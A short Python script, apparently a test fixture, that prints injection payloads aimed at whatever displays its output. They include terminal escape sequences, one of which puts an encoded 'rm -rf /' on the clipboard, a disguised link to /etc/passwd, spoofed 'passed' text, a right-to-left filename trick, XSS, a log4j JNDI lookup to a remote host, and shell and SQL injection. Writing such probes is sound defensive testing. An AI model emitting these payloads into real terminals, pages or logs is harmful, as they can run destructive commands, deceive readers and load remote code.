# Output that steers the terminal, the page or the log in which it is shown.
import sys

out = sys.stdout.buffer
for text in (
    b"\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIC8=\x07",
    b"\x1b]8;;file:///etc/passwd\x1b\\harmless\x1b]8;;\x1b\\",
    b"\x1bP+q544e\x1b\\\x1b[6n\x1b[c\x1b[21t",
    b"passed\rfailed\x08\x08\x08\x08\x08\x08passed\n",
    b"\xe2\x80\xaegnp.exe \xe2\x81\xa6\xe2\x80\x8b\xef\xbb\xbf\n",
    b"<script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>\n",
    b"${jndi:ldap://203.0.113.9/a} {{7*7}} $(id) `id` '; DROP TABLE trials; --\n",
    b"\x00\x01\x02\x7f\x9b31m\x85\xc2\x85\n",
):
    out.write(text)
out.flush()
